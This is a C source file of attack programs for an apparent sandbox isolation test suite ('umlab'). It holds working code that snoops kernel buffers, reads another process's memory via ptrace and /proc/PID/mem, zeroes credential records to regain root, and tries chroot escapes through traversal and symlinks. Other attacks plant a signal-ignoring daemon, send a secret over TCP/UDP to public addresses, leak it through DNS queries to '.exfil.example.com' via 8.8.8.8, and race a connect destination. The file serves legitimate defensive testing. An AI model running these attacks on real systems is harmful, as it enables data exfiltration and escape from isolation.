/* umlab isolation suite: attack programs, run as ordinary guests (x86-64 and PowerPC builds of
 * this file; IA-64 has an assembly twin, attacks-ia64.s).
 *
 *   attacks ROLE [ARGS]
 *
 * Scenario roles (what `umlab isolation` starts; each forks and execs the roles it needs, so
 * the attacker is a fresh program that never held the secret):
 *   pipe-snoop SECRET     a victim pair passes SECRET through a pipe; then the attacker runs
 *   file-snoop SECRET     a victim writes SECRET to a file in /tmp; then the attacker runs
 *   private-peek SECRET   a victim keeps SECRET in its private memory only; the attacker runs
 *                         while the victim is alive, as another user (uid 1000)
 *   become-root SECRET    root writes SECRET to a root-only file; the attacker drops to uid
 *                         1000 and tries to get back
 *   kernel-read           the attacker reads the kernel's memory
 *   host-escape PATH      the attacker tries to read PATH, a host file outside its root (also,
 *                         on x86-64, through the syscall instruction of umlab's stub page)
 *   outlive               the attacker leaves a process behind that tries to survive umlab
 * Network attacks (the harness listens on the host and reports whatever reaches it):
 *   net-reach PORT SECRET ADDR...   TCP connects and UDP datagrams carrying SECRET to the host's
 *                         127.0.0.1, the gateway 10.0.2.2, public addresses and ADDRs, at PORT
 *   net-bind PORT         listens on PORT (IPv4 and IPv6) for a while; the harness looks for it
 *                         on the host
 *   dns-exfil SECRET PORT ADDR...   DNS queries whose name carries SECRET, to umlab's answerer,
 *                         to the gateway, to public resolvers and to ADDRs at PORT, and a lookup
 *                         through the C library
 *   toctou DENIED-ADDR DENIED-PORT ALLOWED-ADDR ALLOWED-PORT   connects while a second thread
 *                         flips the sockaddr between an allowed and a denied destination
 *
 * The attacker prints what it finds; the harness, not this program, decides "leaked" (the
 * secret, or the kernel arena's magic, appears in the output) or "blocked".
 *
 * What the attacker knows about umlab is what a UML attacker knew about its kernel: the
 * published layout (Sources/GuestKernel/KernelArena.swift) and where TT mode maps it. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>

#if defined(__x86_64__)
#define KERNEL_REGION 0x7fffe0000000UL
#elif defined(__powerpc__)
#define KERNEL_REGION 0xbe000000UL
#else
#error "no kernel region address for this ISA"
#endif
#define ARENA_SIZE (32u << 20)
#define RECORD_AREA 0x1000u
#define RECORD_MAGIC 0x524b4d55u
enum { KIND_CREDENTIALS = 1, KIND_PIPE = 2, KIND_IO = 3 };

static const char *self_path;
static sigjmp_buf fault_env;

static void on_fault(int sig)
{
    siglongjmp(fault_env, sig);
}

/* The arena is in the host's (little-endian) byte order. */
static uint32_t le32(const volatile unsigned char *p)
{
    return (uint32_t)p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24;
}
static void put_le32(volatile unsigned char *p, uint32_t v)
{
    p[0] = v; p[1] = v >> 8; p[2] = v >> 16; p[3] = v >> 24;
}

/* Runs `body` with SIGSEGV/SIGBUS turned into a "fault" line instead of death. */
static int guarded(void (*body)(void *), void *arg, const char *what)
{
    struct sigaction sa = { .sa_handler = on_fault };
    sigemptyset(&sa.sa_mask);
    sigaction(SIGSEGV, &sa, NULL);
    sigaction(SIGBUS, &sa, NULL);
    int sig = sigsetjmp(fault_env, 1);
    if (sig == 0) {
        body(arg);
        return 0;
    }
    printf("%s: fault (signal %d)\n", what, sig);
    return -1;
}

/* Prints every run of at least 8 printable bytes in [p, p+n). */
static void print_strings(const char *label, const volatile unsigned char *p, size_t n)
{
    size_t run = 0;
    for (size_t i = 0; i <= n; i++) {
        int printable = i < n && p[i] >= 0x20 && p[i] < 0x7f;
        if (printable) { run++; continue; }
        if (run >= 8) {
            printf("%s: \"", label);
            for (size_t k = i - run; k < i; k++) putchar(p[k]);
            printf("\"\n");
        }
        run = 0;
    }
}

/* Walks the arena's records, calling `visit` for each; stops at the first non-record. */
static void walk(void (*visit)(volatile unsigned char *hdr, uint32_t kind, int32_t owner, uint32_t len))
{
    volatile unsigned char *base = (volatile unsigned char *)KERNEL_REGION;
    uint32_t at = RECORD_AREA;
    while (at + 16 <= ARENA_SIZE && le32(base + at) == RECORD_MAGIC) {
        uint32_t kind = le32(base + at + 4) & 0xffff, len = le32(base + at + 12);
        visit(base + at, kind, (int32_t)le32(base + at + 8), len);
        at += (16 + len + 15) & ~15u;
    }
}

/* ---- kernel-read ---------------------------------------------------------------------- */

static void read_header(void *unused)
{
    (void)unused;
    volatile unsigned char *base = (volatile unsigned char *)KERNEL_REGION;
    printf("kernel region header: \"");
    for (int i = 0; i < 8; i++) putchar(base[i] >= 0x20 && base[i] < 0x7f ? base[i] : '.');
    printf("\"\n");
}

static int attack_kernel_read(void)
{
    guarded(read_header, NULL, "read kernel region");
    return 0;
}

/* ---- pipe-snoop / file-snoop: read other guests' data out of kernel buffers ------------- */

static uint32_t snoop_kind;
static void snoop_record(volatile unsigned char *hdr, uint32_t kind, int32_t owner, uint32_t len)
{
    (void)owner;
    if (kind != snoop_kind) return;
    /* Copy first: our own output passes through the kernel's I/O buffer too. */
    unsigned char *copy = malloc(len);
    for (uint32_t i = 0; i < len; i++) copy[i] = hdr[16 + i];
    print_strings(kind == KIND_PIPE ? "pipe buffer" : "io buffer", copy, len);
    free(copy);
}
static void snoop(void *kind)
{
    snoop_kind = *(uint32_t *)kind;
    walk(snoop_record);
}

static int attack_snoop(uint32_t kind)
{
    guarded(snoop, &kind, "scan kernel buffers");
    return 0;
}

/* ---- private-peek: another process's private memory ------------------------------------ */

static int attack_private_peek(pid_t victim, unsigned long addr, size_t len)
{
    char buf[256], path[64];
    if (len > sizeof buf) len = sizeof buf;
    struct iovec local = { buf, len }, remote = { (void *)addr, len };
    ssize_t n = process_vm_readv(victim, &local, 1, &remote, 1, 0);
    printf("process_vm_readv: %s\n", n < 0 ? strerror(errno) : "ok");
    if (n > 0) print_strings("process_vm_readv", (unsigned char *)buf, (size_t)n);

    snprintf(path, sizeof path, "/proc/%d/mem", (int)victim);
    int fd = open(path, O_RDONLY);
    n = fd < 0 ? -1 : pread(fd, buf, len, (off_t)addr);
    printf("/proc/<victim>/mem: %s\n", n < 0 ? strerror(errno) : "ok");
    if (n > 0) print_strings("/proc/pid/mem", (unsigned char *)buf, (size_t)n);
    if (fd >= 0) close(fd);

    errno = 0;
    long word = ptrace(PTRACE_ATTACH, victim, 0, 0);
    printf("ptrace attach: %s\n", word < 0 ? strerror(errno) : "ok");
    if (word == 0) {
        waitpid(victim, NULL, 0);
        for (size_t i = 0; i < len; i += sizeof(long)) {
            errno = 0;
            long w = ptrace(PTRACE_PEEKDATA, victim, (void *)(addr + i), 0);
            if (errno) break;
            memcpy(buf + i, &w, sizeof w);
        }
        print_strings("ptrace peek", (unsigned char *)buf, len);
    }
    return 0;
}

static void peek_same_address(void *arg)
{
    unsigned long *a = arg;
    print_strings("same address here", (volatile unsigned char *)a[0], a[1]);
}

/* ---- become-root ------------------------------------------------------------------------ */

static void corrupt_credentials(volatile unsigned char *hdr, uint32_t kind, int32_t owner, uint32_t len)
{
    if (kind == KIND_CREDENTIALS && owner == getpid() && len >= 32) {
        for (int i = 0; i < 8; i++) put_le32(hdr + 16 + 4 * i, 0);
        printf("own credential record found and zeroed\n");
    }
}
static void corrupt(void *unused)
{
    (void)unused;
    walk(corrupt_credentials);
}

static int attack_become_root(const char *secret_file)
{
    if (setgid(1000) != 0 || setuid(1000) != 0) {
        printf("cannot drop to uid 1000: %s\n", strerror(errno));
        return 1;
    }
    printf("dropped to uid %d\n", (int)getuid());
    int fd = open(secret_file, O_RDONLY);
    printf("root-only file as uid 1000: %s\n", fd < 0 ? strerror(errno) : "opened");
    if (fd >= 0) close(fd);
    guarded(corrupt, NULL, "write kernel region");
    printf("after the attack: getuid %d geteuid %d, setuid(0) %s\n", (int)getuid(), (int)geteuid(),
           setuid(0) == 0 ? "succeeded" : strerror(errno));
    fd = open(secret_file, O_RDONLY);
    if (fd < 0) {
        printf("root-only file: %s\n", strerror(errno));
        return 0;
    }
    char buf[128];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    printf("root-only file: \"%s\"\n", buf);
    close(fd);
    return 0;
}

/* ---- host-escape ------------------------------------------------------------------------ */

static void try_read(const char *path)
{
    char buf[256];
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        printf("open %s: %s\n", path, strerror(errno));
        return;
    }
    ssize_t n = read(fd, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    printf("open %s: read \"%s\"\n", path, buf);
    close(fd);
}

#if defined(__x86_64__)
/* umlab's x86-64 stub: every guest host process has a `syscall; int3` at this published
 * address, which umlab uses to run host calls in the guest's process. An attacker jumps there
 * and hopes the call reaches the host (under a filter that trusted the stub's address, it
 * would: the host process's root is the host's). The int3 that follows returns control. */
#define STUB_SYSCALL_SITE 0x7ffff0000100UL
static sigjmp_buf door_env;
static volatile long door_result;

static void on_door_trap(int sig, siginfo_t *info, void *ucv)
{
    (void)sig;
    (void)info;
    door_result = ((ucontext_t *)ucv)->uc_mcontext.gregs[REG_RAX];
    siglongjmp(door_env, 1);
}

static long stub_door(long nr, long a, long b, long c)
{
    struct sigaction sa, old;
    memset(&sa, 0, sizeof sa);
    sa.sa_sigaction = on_door_trap;
    sa.sa_flags = SA_SIGINFO;
    sigaction(SIGTRAP, &sa, &old);
    door_result = -1;
    if (sigsetjmp(door_env, 1) == 0) {
        register long rax __asm__("rax") = nr;
        register long rdi __asm__("rdi") = a;
        register long rsi __asm__("rsi") = b;
        register long rdx __asm__("rdx") = c;
        /* Below the red zone; never returns here (the handler long-jumps). */
        __asm__ volatile("lea -256(%%rsp), %%rsp\n\tcall *%[site]"
                         : : [site] "r"(STUB_SYSCALL_SITE), "r"(rax), "r"(rdi), "r"(rsi), "r"(rdx)
                         : "rcx", "r11", "memory");
    }
    sigaction(SIGTRAP, &old, NULL);
    return door_result;
}

static void try_stub_door(const char *path)
{
    long fd = stub_door(257 /* openat */, AT_FDCWD, (long)path, O_RDONLY);
    printf("stub openat %s = %ld\n", path, fd);
    if (fd < 0) return;
    static char buf[256];
    long n = stub_door(0 /* read */, fd, (long)buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    printf("stub read: \"%s\"\n", buf);
}
#endif

static int attack_host_escape(const char *target)
{
    char path[4096];
    const char *name = strrchr(target, '/') ? strrchr(target, '/') + 1 : target;
    try_read(target);
    snprintf(path, sizeof path, "/../../../../../../..%s", target);
    try_read(path);
    snprintf(path, sizeof path, "/proc/self/root/../%s", name);
    try_read(path);
    snprintf(path, sizeof path, "/proc/1/root%s", target);
    try_read(path);
    /* A symlink planted in writable /tmp, pointing out of the root. */
    unlink("/tmp/escape");
    if (symlink(target, "/tmp/escape") == 0) try_read("/tmp/escape");
    snprintf(path, sizeof path, "../../../../..%s", target);
    unlink("/tmp/escape2");
    if (symlink(path, "/tmp/escape2") == 0) try_read("/tmp/escape2");
    /* chdir upwards past the root. */
    for (int i = 0; i < 16; i++) if (chdir("..") != 0) break;
    try_read(target + 1);
#if defined(__x86_64__)
    try_stub_door(target);
#endif
    return 0;
}

/* ---- outlive ------------------------------------------------------------------------------ */

static int attack_outlive(void)
{
    pid_t p = fork();
    if (p == 0) {
        setsid();
        if (fork() != 0) _exit(0);
        signal(SIGHUP, SIG_IGN);
        signal(SIGTERM, SIG_IGN);
        for (;;) sleep(1);  /* outlive umlab if it can */
    }
    waitpid(p, NULL, 0);
    printf("left a daemon behind\n");
    return 0;
}

/* ---- scenarios ---------------------------------------------------------------------------- */

/* ---- network ------------------------------------------------------------------------------ */

static int sockaddr_for(const char *addr, int port, struct sockaddr_storage *ss, socklen_t *len)
{
    memset(ss, 0, sizeof *ss);
    struct sockaddr_in *a4 = (struct sockaddr_in *)ss;
    struct sockaddr_in6 *a6 = (struct sockaddr_in6 *)ss;
    if (inet_pton(AF_INET, addr, &a4->sin_addr) == 1) {
        a4->sin_family = AF_INET;
        a4->sin_port = htons((uint16_t)port);
        *len = sizeof *a4;
        return AF_INET;
    }
    if (inet_pton(AF_INET6, addr, &a6->sin6_addr) == 1) {
        a6->sin6_family = AF_INET6;
        a6->sin6_port = htons((uint16_t)port);
        *len = sizeof *a6;
        return AF_INET6;
    }
    return -1;
}

/* One TCP connect and one UDP datagram carrying SECRET to addr:port; prints what it got. */
static void reach(const char *addr, int port, const char *secret)
{
    struct sockaddr_storage ss;
    socklen_t len;
    int family = sockaddr_for(addr, port, &ss, &len);
    if (family < 0) return;
    int s = socket(family, SOCK_STREAM, 0);
    if (s >= 0) {
        if (connect(s, (struct sockaddr *)&ss, len) == 0) {
            char buf[256];
            if (write(s, secret, strlen(secret)) < 0) {}
            ssize_t n = read(s, buf, sizeof buf - 1);
            buf[n > 0 ? n : 0] = 0;
            printf("tcp %s:%d: connected, read \"%s\"\n", addr, port, buf);
        } else {
            printf("tcp %s:%d: %s\n", addr, port, strerror(errno));
        }
        close(s);
    }
    s = socket(family, SOCK_DGRAM, 0);
    if (s >= 0) {
        if (sendto(s, secret, strlen(secret), 0, (struct sockaddr *)&ss, len) >= 0) printf("udp %s:%d: sent\n", addr, port);
        else printf("udp %s:%d: %s\n", addr, port, strerror(errno));
        close(s);
    }
}

static const char *public_addresses[] = { "8.8.8.8", "1.1.1.1", "192.0.2.1", "2001:4860:4860::8888", NULL };

static int attack_net_reach(int port, const char *secret, char **extra)
{
    reach("127.0.0.1", port, secret);
    reach("::1", port, secret);
    reach("10.0.2.2", port, secret);
    reach("10.0.2.3", port, secret);
    for (const char **a = public_addresses; *a; a++) reach(*a, port, secret);
    for (; *extra; extra++) reach(*extra, port, secret);
    return 0;
}

static int attack_net_bind(int port)
{
    struct sockaddr_storage ss;
    socklen_t len;
    int s4 = socket(AF_INET, SOCK_STREAM, 0), s6 = socket(AF_INET6, SOCK_STREAM, 0);
    int one = 1;
    setsockopt(s6, IPPROTO_IPV6, IPV6_V6ONLY, &one, sizeof one);
    sockaddr_for("0.0.0.0", port, &ss, &len);
    int r4 = bind(s4, (struct sockaddr *)&ss, len) == 0 && listen(s4, 8) == 0;
    sockaddr_for("::", port, &ss, &len);
    int r6 = bind(s6, (struct sockaddr *)&ss, len) == 0 && listen(s6, 8) == 0;
    printf("listening on %d: ipv4 %s, ipv6 %s\n", port, r4 ? "yes" : "no", r6 ? "yes" : "no");
    fflush(stdout);
    /* Stay listening while the harness looks from the host. */
    for (int i = 0; i < 30; i++) {
        struct timespec t = { 0, 100000000 };
        nanosleep(&t, NULL);
    }
    return 0;
}

/* A DNS query (RD set) for NAME, type A. */
static int dns_query(unsigned char *out, const char *name)
{
    unsigned char *p = out;
    static const unsigned char header[12] = { 0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0 };
    memcpy(p, header, 12);
    p += 12;
    const char *label = name;
    while (*label) {
        const char *dot = strchr(label, '.');
        size_t n = dot ? (size_t)(dot - label) : strlen(label);
        *p++ = (unsigned char)n;
        memcpy(p, label, n);
        p += n;
        label += n + (dot ? 1 : 0);
    }
    *p++ = 0;
    *p++ = 0; *p++ = 1;  /* type A */
    *p++ = 0; *p++ = 1;  /* class IN */
    return (int)(p - out);
}

static void ask(const char *addr, int port, const unsigned char *q, int qlen)
{
    struct sockaddr_storage ss;
    socklen_t len;
    int family = sockaddr_for(addr, port, &ss, &len);
    int s = socket(family, SOCK_DGRAM, 0);
    if (s < 0) return;
    if (sendto(s, q, (size_t)qlen, 0, (struct sockaddr *)&ss, len) < 0) {
        printf("dns %s:%d: %s\n", addr, port, strerror(errno));
    } else {
        struct timeval tv = { 0, 300000 };
        setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
        unsigned char r[512];
        ssize_t n = recv(s, r, sizeof r, 0);
        if (n >= 4) printf("dns %s:%d: answered, rcode %d, %d answers\n", addr, port, r[3] & 0xf, n >= 8 ? r[7] : 0);
        else printf("dns %s:%d: no answer\n", addr, port);
    }
    close(s);
}

static int attack_dns_exfil(const char *secret, int port, char **extra)
{
    char name[256];
    unsigned char q[512];
    snprintf(name, sizeof name, "%.60s.exfil.example.com", secret);
    int n = dns_query(q, name);
    ask("10.0.2.3", 53, q, n);
    ask("10.0.2.2", 53, q, n);
    ask("127.0.0.1", 53, q, n);
    ask("8.8.8.8", 53, q, n);
    ask("10.0.2.3", port, q, n);
    ask("10.0.2.2", port, q, n);
    for (; *extra; extra++) { ask(*extra, 53, q, n); ask(*extra, port, q, n); }
    struct addrinfo *res = NULL;
    int e = getaddrinfo(name, NULL, NULL, &res);
    printf("getaddrinfo: %s\n", e == 0 ? "resolved" : gai_strerror(e));
    if (res) freeaddrinfo(res);
    return 0;
}

/* The time-of-check/time-of-use race: one thread connects over and over through a sockaddr
 * that another thread keeps switching between an allowed and a denied destination. */
static struct sockaddr_storage race_addr, race_allowed, race_denied;
static socklen_t race_len;
static volatile int race_done;

static void *flipper(void *unused)
{
    (void)unused;
    /* Each state holds for a while and the threads take turns, so connects meet both
     * destinations (and, where threads run at once, the moments between). */
    while (!race_done) {
        memcpy(&race_addr, &race_denied, sizeof race_addr);
        for (volatile int i = 0; i < 2000; i++) {}
        sched_yield();
        memcpy(&race_addr, &race_allowed, sizeof race_addr);
        for (volatile int i = 0; i < 2000; i++) {}
        sched_yield();
    }
    return NULL;
}

static int attack_toctou(const char *denied, int denied_port, const char *allowed, int allowed_port)
{
    socklen_t l2;
    sockaddr_for(denied, denied_port, &race_denied, &race_len);
    sockaddr_for(allowed, allowed_port, &race_allowed, &l2);
    memcpy(&race_addr, &race_allowed, sizeof race_addr);
    pthread_t t;
    if (pthread_create(&t, NULL, flipper, NULL) != 0) return 1;
    int ok = 0, refused = 0, other = 0;
    for (int i = 0; i < 400; i++) {
        int s = socket(race_allowed.ss_family, SOCK_STREAM, 0);
        if (connect(s, (struct sockaddr *)&race_addr, race_len) == 0) ok++;
        else if (errno == ENETUNREACH) refused++;
        else other++;
        close(s);
        sched_yield();
    }
    race_done = 1;
    pthread_join(t, NULL);
    printf("toctou: %d connected, %d unreachable, %d other\n", ok, refused, other);
    return 0;
}

static pid_t spawn(char *const argv[])
{
    pid_t p = fork();
    if (p == 0) {
        execv(self_path, argv);
        _exit(127);
    }
    return p;
}

static int run_attacker(char *const argv[])
{
    fflush(stdout);
    pid_t p = spawn(argv);
    int st;
    waitpid(p, &st, 0);
    return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

int main(int argc, char **argv)
{
    self_path = argv[0];
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) {
        fprintf(stderr, "usage: %s ROLE [ARGS]\n", argv[0]);
        return 2;
    }
    const char *role = argv[1];

    /* victims */
    if (!strcmp(role, "victim-pipe") && argc > 2) {
        int p[2];
        char buf[256];
        if (pipe(p) != 0) return 1;
        pid_t r = fork();
        if (r == 0) {
            close(p[1]);
            while (read(p[0], buf, sizeof buf) > 0) {}
            _exit(0);
        }
        close(p[0]);
        if (write(p[1], argv[2], strlen(argv[2])) < 0) return 1;
        close(p[1]);
        waitpid(r, NULL, 0);
        return 0;
    }
    if (!strcmp(role, "victim-file") && argc > 2) {
        /* A block of a diary, the secret in the middle of it. */
        char block[1024];
        memset(block, '.', sizeof block);
        memcpy(block + 512, argv[2], strlen(argv[2]));
        int fd = open("/tmp/victim-diary", O_WRONLY | O_CREAT | O_TRUNC, 0600);
        if (fd < 0 || write(fd, block, sizeof block) < 0) return 1;
        close(fd);
        return 0;
    }
    if (!strcmp(role, "victim-private") && argc > 3) {
        /* The secret moves from argv (copied by execve, never through a kernel buffer) into
         * private heap memory; argv is scrubbed; only its address is reported. */
        size_t len = strlen(argv[2]);
        char *secret = malloc(len + 1);
        memcpy(secret, argv[2], len + 1);
        memset(argv[2], 'x', len);
        int ready = atoi(argv[3]);
        char msg[64];
        int n = snprintf(msg, sizeof msg, "%lu", (unsigned long)secret);
        if (write(ready, msg, (size_t)n) < 0) return 1;
        close(ready);
        for (volatile int i = 0; i < 20; i++) usleep(100000);  /* stay alive for the attacker */
        return secret[0] == 0;
    }

    /* scenarios */
    if (!strcmp(role, "pipe-snoop") && argc > 2) {
        char *v[] = { "attacks", "victim-pipe", argv[2], NULL };
        int st;
        waitpid(spawn(v), &st, 0);
        char *a[] = { "attacks", "attack-snoop-pipe", NULL };
        return run_attacker(a);
    }
    if (!strcmp(role, "file-snoop") && argc > 2) {
        char *v[] = { "attacks", "victim-file", argv[2], NULL };
        int st;
        waitpid(spawn(v), &st, 0);
        char *a[] = { "attacks", "attack-snoop-io", NULL };
        return run_attacker(a);
    }
    if (!strcmp(role, "private-peek") && argc > 2) {
        int ready[2];
        char fd[16], msg[64] = "", pid[16], len[24];
        if (pipe(ready) != 0) return 1;
        snprintf(fd, sizeof fd, "%d", ready[1]);
        snprintf(len, sizeof len, "%zu", strlen(argv[2]));
        char *v[] = { "attacks", "victim-private", argv[2], fd, NULL };
        pid_t victim = spawn(v);
        close(ready[1]);
        ssize_t n = read(ready[0], msg, sizeof msg - 1);
        msg[n > 0 ? n : 0] = 0;
        memset(argv[2], 'x', strlen(argv[2]));  /* the scenario is not the one attacked */
        snprintf(pid, sizeof pid, "%d", (int)victim);
        char *a[] = { "attacks", "attack-peek", pid, msg, len, NULL };
        int rc = run_attacker(a);
        kill(victim, SIGKILL);
        waitpid(victim, NULL, 0);
        return rc;
    }
    if (!strcmp(role, "become-root") && argc > 2) {
        int fd = open("/tmp/root-only", O_WRONLY | O_CREAT | O_TRUNC, 0600);
        if (fd < 0 || write(fd, argv[2], strlen(argv[2])) < 0) return 1;
        close(fd);
        char *a[] = { "attacks", "attack-root", "/tmp/root-only", NULL };
        return run_attacker(a);
    }

    /* attackers */
    if (!strcmp(role, "kernel-read") || !strcmp(role, "attack-kernel-read")) return attack_kernel_read();
    if (!strcmp(role, "attack-snoop-pipe")) return attack_snoop(KIND_PIPE);
    if (!strcmp(role, "attack-snoop-io")) return attack_snoop(KIND_IO);
    if (!strcmp(role, "attack-peek") && argc > 4) {
        unsigned long addr = strtoul(argv[3], NULL, 10), len = strtoul(argv[4], NULL, 10);
        /* Another user's process: with the victim's uid, Linux itself lets ptrace,
         * process_vm_readv and /proc/PID/mem read it, which is no breach of isolation. */
        if (setgid(1000) != 0 || setuid(1000) != 0) {
            printf("cannot drop to uid 1000: %s\n", strerror(errno));
            return 1;
        }
        attack_private_peek((pid_t)atoi(argv[2]), addr, len);
        unsigned long a[2] = { addr, len };
        guarded(peek_same_address, a, "same address here");
        attack_snoop(KIND_IO);
        return 0;
    }
    if (!strcmp(role, "attack-root") && argc > 2) return attack_become_root(argv[2]);
    if (!strcmp(role, "host-escape") && argc > 2) return attack_host_escape(argv[2]);
    if (!strcmp(role, "outlive")) return attack_outlive();
    if (!strcmp(role, "net-reach") && argc > 3) return attack_net_reach(atoi(argv[2]), argv[3], argv + 4);
    if (!strcmp(role, "net-bind") && argc > 2) return attack_net_bind(atoi(argv[2]));
    if (!strcmp(role, "dns-exfil") && argc > 3) return attack_dns_exfil(argv[2], atoi(argv[3]), argv + 4);
    if (!strcmp(role, "toctou") && argc > 5) return attack_toctou(argv[2], atoi(argv[3]), argv[4], atoi(argv[5]));
    fprintf(stderr, "%s: unknown role %s\n", argv[0], role);
    return 2;
}
